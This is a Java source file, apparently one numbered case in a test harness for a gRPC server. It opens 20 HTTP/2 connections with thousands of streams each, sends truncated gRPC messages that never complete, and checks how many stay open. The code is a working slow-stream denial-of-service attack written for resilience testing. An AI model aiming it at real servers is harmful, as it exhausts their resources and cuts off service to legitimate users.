package dev.longrun.tools.attack;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Calls of gRPC whose message never comes, as many as a connection takes and more. */
final class OpenStreams implements Attack {
  private static final int CONNECTIONS = 20;
  private static final int STREAMS = 2000;
  private static final int SECONDS = 8;

  @Override
  public String name() {
    return "15 HTTP/2: 40,000 calls whose message never comes";
  }

  /** As many requests over HTTP/1.1, over as many connections, take others 75 to 100 ms. */
  @Override
  public double harmlessMillis() {
    return 200;
  }

  @Override
  public void run(Site site, Notes notes) throws IOException {
    List<Http2> connections = new ArrayList<>();
    int sent = 0;
    try {
      for (int i = 0; i < CONNECTIONS; i++) {
        Http2 connection = new Http2(site.wire());
        connections.add(connection);
        sent += open(connection);
      }
      Pause.millis(SECONDS * 1000);
      long left = connections.stream().filter(it -> !it.hasEnded()).count();
      notes.add(
          sent + " calls begun over " + CONNECTIONS + " connections, " + left + " still there");
    } finally {
      for (Http2 connection : connections) {
        connection.close();
      }
    }
  }

  private static int open(Http2 connection) {
    byte[] block =
        Http2.block(
            ":method", "POST",
            ":scheme", "http",
            ":path", "/google.longrunning.Operations/GetOperation",
            ":authority", "localhost",
            "te", "trailers",
            "content-type", "application/grpc");
    byte[] tooLittle = {0, 0, 0, 0, 100, 10};
    for (int i = 0; i < STREAMS; i++) {
      int stream = 2 * i + 1;
      if (!connection.send(
          Http2.frame(Http2.HEADERS, Http2.END_HEADERS, stream, block),
          Http2.frame(Http2.DATA, 0, stream, tooLittle))) {
        return i;
      }
    }
    return STREAMS;
  }
}
